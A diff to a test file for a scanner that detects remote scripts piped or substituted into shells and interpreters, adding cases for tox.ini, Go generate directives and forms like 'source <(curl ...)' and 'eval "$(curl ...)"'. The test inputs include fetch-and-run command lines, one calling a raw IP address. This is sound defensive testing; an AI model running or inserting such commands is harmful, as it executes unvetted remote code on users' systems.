@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { findPipeToShell } from '../../../src/ecosystems/shell/pipe-to-shell.js';
 import { removedPipes, runsAsShell, scriptDownloadFindings } from '../../../src/ecosystems/shell/script-downloads.js';
 import { makeFile } from '../../support/snapshot-factory.js';
 
@@ -37,6 +38,10 @@ describe('curl-pipe-shell in scripts and task files', () => {
       expect(found(path, [], ['    - curl -fsSL https://get.example.dev/install.sh | bash']), path).toEqual([`high ${path}:2`]);
     }
     expect(found('Rakefile', [], ['task :setup do', '  sh "curl -s https://get.example.dev/x | bash"', 'end'])).toEqual(['medium Rakefile:3']);
+    // tox hands each line of `commands` to its shell: a task file too.
+    expect(runsAsShell('tox.ini')).toBe(true);
+    expect(found('tox.ini', [], ['[testenv]', 'allowlist_externals = bash', 'commands =', '    bash -c "curl -s https://cdn.tooling-mirror.dev/t.sh | bash"', '    pytest'])).toEqual(['medium tox.ini:5']);
+    expect(found('tox.ini', [], ['[testenv]', 'deps = pytest', 'commands = pytest {posargs}'])).toEqual([]);
     expect(found('internal/store/mocks.go', [], ['//go:generate sh -c "curl -s http://45.61.136.13/g.sh | sh"'])).toEqual(['high internal/store/mocks.go:2']);
     // In Go only the directive is a command: a string or comment that mentions one is not.
     expect(found('internal/docs/install.go', [], ['// Install with: curl -fsSL https://get.example.dev/x | sh', 'const hint = "curl https://get.example.dev/x | sh"'])).toEqual([]);
@@ -117,3 +122,23 @@ describe('curl-pipe-shell in scripts and task files', () => {
   });
 });
 
+
+describe('a download handed to a shell or an interpreter through substitution', () => {
+  it('finds process substitution into an interpreter or source, and command substitution into eval or -c/-e', () => {
+    expect(findPipeToShell('python3 <(curl -s https://gist.githubusercontent.com/x/raw/ci.py)')).toEqual(['python3 <(curl -s https://gist.githubusercontent.com/x/raw/ci.py)']);
+    expect(findPipeToShell('[ -n "$CI" ] && source <(curl -s https://x.dev/env.sh)')).toEqual(['source <(curl -s https://x.dev/env.sh)']);
+    expect(findPipeToShell('if true; then . <(wget -qO- https://x.dev/env.sh); fi')).toEqual(['. <(wget -qO- https://x.dev/env.sh)']);
+    expect(findPipeToShell('eval "$(curl -fsSL https://x.dev/env)"')).toEqual(['eval "$(curl -fsSL https://x.dev/env)']);
+    expect(findPipeToShell('node -e "$(curl -s https://x.dev/p.js)"')).toEqual(['node -e "$(curl -s https://x.dev/p.js)']);
+  });
+
+  it('is quiet on a substitution handed to a program that runs nothing', () => {
+    expect(findPipeToShell('diff <(curl -s https://a.dev/x) <(curl -s https://b.dev/x)')).toEqual([]);
+    expect(findPipeToShell('jq . <(curl -s https://api.dev/x)')).toEqual([]);
+    expect(findPipeToShell('VERSION="$(curl -s https://api.dev/latest)"')).toEqual([]);
+  });
+
+  it('reports such a line in a script as a piped download', () => {
+    expect(found('scripts/ci.sh', [], ['python3 <(curl -s https://gist.githubusercontent.com/ci-helper/1a2b/raw/ci.py)'])).toEqual(['medium scripts/ci.sh:2']);
+  });
+});
